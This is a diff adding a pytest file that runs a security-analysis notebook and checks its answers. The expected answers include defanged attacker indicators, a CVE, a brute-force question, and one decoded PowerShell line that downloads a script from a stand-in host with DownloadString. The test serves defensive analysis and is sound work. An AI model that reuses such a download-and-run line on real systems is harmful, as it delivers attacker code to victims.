@@ -1,0 +1,46 @@
+"""The first example: executed as its users execute it, and its answers are right."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import nbformat
+import pytest
+from kernels import ipc
+from nbclient import NotebookClient
+from traitlets.config import Config
+
+PATH = Path(__file__).parents[2] / "notebooks" / "01_ask.ipynb"
+
+
+@pytest.fixture
+def answers(local_state: Path, tmp_path: Path) -> list[str]:
+    """The Markdown of each answer, in order; the notebook is run whole."""
+    notebook = nbformat.read(PATH, as_version=4)
+    NotebookClient(
+        notebook, config=Config({"KernelManager": ipc(tmp_path)}), resources={"metadata": {"path": str(PATH.parent)}}
+    ).execute()
+    outputs = [output for cell in notebook.cells for output in cell.get("outputs", ())]
+    return [output.data["text/markdown"] for output in outputs if "text/markdown" in output.get("data", {})]
+
+
+def test_each_question_gets_its_answer(answers: list[str]):
+    who, indicators, decoded, score, before = answers
+
+    assert "1,201" in who
+    assert "`deploy`" in who
+    assert "203[.]0[.]113[.]77" in who
+    for indicator in ("hxxps://login[.]notice-desk[.]top/track?id=771", "198[.]51[.]100[.]23", "CVE-2017-11882"):
+        assert indicator in indicators
+    assert "DownloadString('http://198.51.100.23/a.ps1')" in decoded
+    assert "9.8" in score
+    assert "Which accounts were brute-forced, and did anyone get in?" in before
+
+
+def test_it_ships_without_outputs_and_leaves_nothing_in_the_checkout():
+    notebook = nbformat.read(PATH, as_version=4)
+
+    assert all(
+        cell.outputs == [] and cell.execution_count is None for cell in notebook.cells if cell.cell_type == "code"
+    )
+    assert {path.name for path in PATH.parent.glob("*.log")} == set()
